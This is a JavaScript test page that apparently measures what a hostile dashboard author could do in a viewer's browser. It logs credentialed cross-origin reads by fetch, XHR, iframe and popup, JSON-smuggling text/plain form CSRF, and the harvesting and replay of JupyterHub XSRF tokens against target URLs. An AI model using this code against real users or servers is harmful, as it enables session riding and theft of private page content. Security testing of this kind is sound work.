// What a hostile author can do in the browser of whoever opens the dashboard. Everything that the page could read is
// written into it: `#report` holds [{ way, url, status, text }].

// For requests, and for windows that never get as far as being readable.
const REQUEST_MS = 20_000;
const WINDOW_MS = 8_000;
const report = [];
let forms = 0;

function note(way, url, status, text) {
  report.push({ way, url, status, text });
}

async function byFetch(url, mode) {
  try {
    const response = await fetch(url, { credentials: 'include', mode, signal: AbortSignal.timeout(REQUEST_MS) });
    note(`fetch ${mode}`, url, response.status, await response.text());
  } catch {
    note(`fetch ${mode}`, url, 0, '');
  }
}

function byXhr(url) {
  return new Promise(resolve => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.withCredentials = true;
    request.timeout = REQUEST_MS;
    request.onloadend = () => {
      note('XHR', url, request.status, request.responseText);
      resolve();
    };
    request.send();
  });
}

/** Waits until `view()`, the window of another page, has something to read or the browser keeps it closed. */
async function readWindow(way, url, view) {
  const deadline = performance.now() + WINDOW_MS;
  for (;;) {
    try {
      const { closed, document, location } = view();
      if (closed) {
        // Its opener policy has put the page out of reach.
        note(way, url, 0, '');
        return;
      }
      if (location.href !== 'about:blank' && document.readyState === 'complete') {
        note(way, url, 200, document.documentElement.outerHTML);
        return;
      }
    } catch {
      note(way, url, 0, '');
      return;
    }
    if (performance.now() > deadline) {
      note(way, url, 0, '');
      return;
    }
    await new Promise(resolve => setTimeout(resolve, 50));
  }
}

async function byFrame(url) {
  const frame = document.createElement('iframe');
  frame.src = url;
  document.body.append(frame);
  await new Promise(resolve => {
    frame.onload = frame.onerror = resolve;
    setTimeout(resolve, WINDOW_MS);
  });
  await readWindow('iframe', url, () => frame.contentWindow);
  frame.remove();
}

async function byPopup(url) {
  const popup = window.open(url, '_blank');
  await readWindow('popup', url, () => popup);
  popup?.close();
}

/** A request that changes something, as far as a page can make one without being asked for permission, and beyond. */
async function post(url, body, headers) {
  for (const [mode, type] of [
    ['cors', 'application/json'],
    ['no-cors', 'text/plain']
  ]) {
    const init = { method: 'POST', credentials: 'include', mode, signal: AbortSignal.timeout(REQUEST_MS), body };
    try {
      const response = await fetch(url, { ...init, headers: { ...headers, 'Content-Type': type } });
      note(`POST ${mode}`, url, response.status, await response.text());
    } catch {
      note(`POST ${mode}`, url, 0, '');
    }
  }
}

/** A form needs no permission from anybody, and takes cookies along that requests of scripts do not. */
async function byForm(url, body) {
  const name = `form-${forms++}`;
  const popup = window.open('', name);
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', action: url, target: name, enctype: 'text/plain' });
  const field = document.createElement('input');
  // The body of such a form is `name=value`: the equals sign goes where JSON does not mind.
  const last = body.length - 1;
  Object.assign(field, { name: `${body.slice(0, last)},"ignored":"`, value: `"${body.slice(last)}` });
  form.append(field);
  document.body.append(form);
  form.submit();
  await readWindow('form', url, () => popup);
  form.remove();
  popup?.close();
}

/** The token that JupyterHub's pages carry for their own scripts. */
function xsrfTokens() {
  const found = report.map(({ text }) => /xsrf_token: "([^"]+)"/.exec(text)?.[1]).filter(Boolean);
  return [...new Set(found)];
}

async function attack({ reads, posts }) {
  const left = [...reads];
  const next = async () => {
    for (let url = left.shift(); url; url = left.shift()) {
      await Promise.all([byFetch(url, 'cors'), byFetch(url, 'no-cors'), byXhr(url), byFrame(url), byPopup(url)]);
    }
  };
  await Promise.all([next(), next(), next(), next()]);
  const tokens = xsrfTokens();
  for (const { url, body } of posts) {
    const text = JSON.stringify(body);
    await Promise.all([
      post(url, text, {}),
      ...tokens.map(token => post(url, text, { 'X-XSRFToken': token })),
      ...tokens.map(token => post(`${url}?_xsrf=${encodeURIComponent(token)}`, text, {})),
      byForm(url, text)
    ]);
  }
}

fetch('targets.json')
  .then(response => response.json())
  .then(attack)
  .then(
    () => (document.title = 'done'),
    error => (document.title = String(error))
  )
  .finally(() => (document.getElementById('report').textContent = JSON.stringify(report)));
